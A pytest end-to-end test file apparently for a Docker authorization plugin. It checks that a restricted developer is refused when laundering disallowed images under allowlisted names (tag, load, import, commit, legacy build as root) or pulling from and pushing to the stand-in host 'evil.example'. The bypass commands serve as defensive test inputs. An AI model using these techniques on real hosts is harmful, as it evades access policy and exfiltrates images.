"""Bypass corpus, images (B9, B22): laundering a disallowed image into an allowed name, and
reaching registries the policy does not list, as ``dev``.

The built-in developer may run ``docker.io/library/*`` images and has ``images.local_builds:
false``: every way to mint a local image name (tag, load, import, commit, build) is refused, and
no new tag may appear on the daemon. No registry is reachable from the sandbox; the plugin must
refuse the pull before the daemon tries.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from bypasslib import API, DEV, api_denied, cli_denied, unchanged
from harness import write_tiny_tar
from hostutil import clean_env
from stack import Stack

pytestmark = pytest.mark.e2e

LAUNDERED = "evil.example/rootkit:1"  # a name outside the allowlist, carried inside a tar


@pytest.fixture(scope="module")
def image_tar(e2e_env: Stack, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``docker save`` of tiny under the name ``LAUNDERED``, which then no longer exists locally."""
    path = tmp_path_factory.mktemp("images") / "laundered.tar"
    e2e_env.docker_as("admin", "tag", "tiny:latest", LAUNDERED, check=True)
    try:
        e2e_env.docker_as("admin", "save", "-o", str(path), LAUNDERED, check=True)
    finally:
        e2e_env.docker_as("admin", "rmi", LAUNDERED, check=True)
    return path


def test_tag_to_an_allowed_name(e2e_env: Stack) -> None:
    """[B9] ``docker tag tiny busybox``: a local image gets a name the allowlist trusts."""
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "tag", "tiny:latest", "busybox:latest")
    cli_denied(e2e_env, result, action="image:tag", rule="images.local_builds", field="repo")


def test_load_names_hidden_in_a_tar(e2e_env: Stack, image_tar: Path) -> None:
    """[B9] ``docker load``: the names are inside the tar, which the plugin never sees."""
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "load", "-i", str(image_tar))
    cli_denied(e2e_env, result, action="image:load", rule="images.local_builds", field="body")


def test_import_a_root_filesystem(e2e_env: Stack, tmp_path: Path) -> None:
    """[B9] ``docker import rootfs.tar busybox:latest``: any filesystem under an allowed name."""
    tar = write_tiny_tar(tmp_path / "rootfs.tar")
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "import", str(tar), "busybox:latest")
    cli_denied(e2e_env, result, action="image:import", rule="images.local_builds", field="fromSrc")


def test_import_from_a_url(e2e_env: Stack) -> None:
    """[B22] ``docker import http://…``: the daemon itself would download the URL (``fromSrc``)."""
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "import", "http://127.0.0.1:9/rootfs.tar", "busybox:latest")
    cli_denied(e2e_env, result, action="image:import", rule="images.allow", field="fromSrc",
               says="makes the daemon download it")  # fmt: skip


def test_commit_own_container(e2e_env: Stack, dev_container: str) -> None:
    """[B9] ``docker commit <own container> busybox:latest``: a container's filesystem, renamed."""
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "commit", dev_container, "busybox:latest")
    cli_denied(e2e_env, result, action="container:commit", rule="images.local_builds", field="repo")


def test_legacy_build(e2e_env: Stack, tmp_path: Path) -> None:
    """[B9] ``DOCKER_BUILDKIT=0 docker build -t busybox:evil``: ``FROM`` and ``USER`` are in a
    Dockerfile inside the tar the plugin never sees."""
    (tmp_path / "Dockerfile").write_text("FROM tiny\nUSER 0\n")
    env = clean_env({"DOCKER_CONFIG": str(e2e_env.configs[DEV]), "DOCKER_BUILDKIT": "0"})
    with unchanged(e2e_env):
        result = subprocess.run(
            ["docker", "-H", e2e_env.daemon.host, "build", "-t", "busybox:evil", str(tmp_path)],
            env=env, capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
    cli_denied(e2e_env, result, action="image:build", rule="images.local_builds", field="t")


def test_pull_from_another_registry(e2e_env: Stack) -> None:
    """[B9] ``docker pull evil.example/x``: denied before the daemon contacts any registry."""
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "pull", "evil.example/x")
    cli_denied(e2e_env, result, action="image:pull", rule="images.allow", field="fromImage",
               says="pulling evil.example/x:latest is not allowed")  # fmt: skip


def test_push_to_another_registry(e2e_env: Stack) -> None:
    """[§7.7] ``docker push evil.example/x:1``: exfiltration of local images to a foreign registry."""
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "push", "evil.example/x:1")
    cli_denied(e2e_env, result, action="image:push", says="none of your roles allows image:push")


@pytest.mark.parametrize("prefix", ["", "sha256:"], ids=["short-id", "sha256-prefix"])
def test_run_by_image_id_prefix(e2e_env: Stack, prefix: str) -> None:
    """[B9] ``docker run <image ID prefix>``: the daemon resolves IDs and unique prefixes, so a
    name allowlist cannot judge them (any local image, laundered or not, has an ID)."""
    image_id = e2e_env.api_as("admin", "GET", f"{API}/images/tiny/json").json()["Id"].removeprefix("sha256:")
    reference = prefix + image_id[:12]
    with unchanged(e2e_env):
        result = e2e_env.docker_as(DEV, "run", "--network", "none", "--user", "1000", reference, "true")
    cli_denied(e2e_env, result, action="container:create", rule="images.allow", field="Image",
               says="local image ID or ID prefix")  # fmt: skip


def test_run_image_from_another_registry(e2e_env: Stack) -> None:
    """[B9] ``Image: evil.example/x`` in a create (the daemon would pull it on ``docker run``)."""
    with unchanged(e2e_env):
        body = {"Image": "evil.example/x", "User": "1000", "HostConfig": {"NetworkMode": "none"}}
        reply = e2e_env.api_as(DEV, "POST", f"{API}/containers/create", body)
    api_denied(e2e_env, reply, action="container:create", rule="images.allow", field="Image")
